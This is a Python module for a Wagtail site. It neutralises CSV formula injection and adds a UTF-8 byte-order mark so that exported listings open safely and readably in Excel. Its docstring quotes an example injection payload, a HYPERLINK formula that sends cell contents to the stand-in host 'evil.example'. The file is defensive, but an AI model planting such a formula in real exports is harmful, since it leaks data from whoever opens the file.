"""Spreadsheet exports that are safe to open: no formula injection, Chinese that Excel reads.

A cell typed as ``=HYPERLINK("http://evil.example/?"&A1, "点击")`` or ``@SUM(...)`` is data
to us, but Excel and WPS run it as a formula when they open a CSV (CWE-1236). Text cells that
begin like a formula are given a leading apostrophe in CSV, as OWASP recommends; in .xlsx
they are stored as text cells, which no spreadsheet program evaluates.

Wagtail's listing export (``list_export``, ?export=csv) writes values as they are and no
byte-order mark, so Excel on a Chinese Windows also reads its UTF-8 as GBK (mojibake).
``SafeSpreadsheetExportMixin`` fixes both for any Wagtail index view, and writes choices by
their label and booleans as 是/否. Its .xlsx goes through ``reporting.spreadsheets.write_xlsx``
(write-only, rows streamed from the queryset): columns sized to the first rows, a bold frozen
header with a filter, and times in the project's time zone where Wagtail writes UTC.
"""

import codecs
import datetime
from typing import Any

from django.http import StreamingHttpResponse
from django.utils.translation import gettext as _

from reporting.spreadsheets import write_xlsx

# What a spreadsheet program may read as the start of a formula (OWASP: CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_formula(value: Any) -> Any:
    """``value``, with a leading ``'`` when it is text a spreadsheet would run as a formula.

    Numbers (including negative ones) and other non-text values are returned unchanged.
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeSpreadsheetExportMixin:
    """Put before Wagtail's ``IndexView`` (or any ``SpreadsheetExportMixin`` view):
    ``class ScopedIndexView(SafeSpreadsheetExportMixin, generic.IndexView)``.

    CSV: formula-like text cells get a leading apostrophe, the file starts with a UTF-8 BOM
    and says ``charset=utf-8``. XLSX: written by ``write_xlsx``, which stores all text as
    text cells (never a formula, nor an error cell for text like "#N/A").
    """

    def to_row_dict(self, item):
        """Values as a person reads them: a choice's label (never its stored value),
        是/否 for booleans, nothing for None."""
        row = super().to_row_dict(item)
        for field, value in row.items():
            display = getattr(item, f"get_{field}_display", None)
            if callable(display):
                value = display()
            if isinstance(value, bool):
                value = _("Yes") if value else _("No")
            elif value is None:
                value = ""
            row[field] = value
        return row

    def write_csv_row(self, writer, row_dict):
        return writer.writerow(
            {
                field: neutralise_formula(
                    self.preprocess_field_value(field, value, self.FORMAT_CSV)
                )
                for field, value in row_dict.items()
            }
        )

    def stream_csv(self, queryset):
        yield codecs.BOM_UTF8  # Wagtail's CSV writer yields UTF-8 bytes too
        yield from super().stream_csv(queryset)

    def write_csv_response(self, queryset):
        response = super().write_csv_response(queryset)
        if isinstance(response, StreamingHttpResponse):
            response["Content-Type"] = "text/csv; charset=utf-8"
        return response

    def xlsx_value(self, field, value):
        """``value`` as the writer takes it: an aware datetime stays aware (the writer puts
        it in the project's time zone; Wagtail's own preprocessing writes UTC)."""
        custom = self.custom_field_preprocess.get(field, {})
        if isinstance(value, datetime.datetime) and self.FORMAT_XLSX not in custom:
            return value
        return self.preprocess_field_value(field, value, self.FORMAT_XLSX)

    def write_xlsx(self, queryset, output):
        header = [self.get_heading(queryset, field) for field in self.list_export]
        rows = (
            [self.xlsx_value(field, value) for field, value in self.to_row_dict(item).items()]
            for item in queryset
        )
        output.write(write_xlsx([(str(self.get_filename()), header, rows)]))
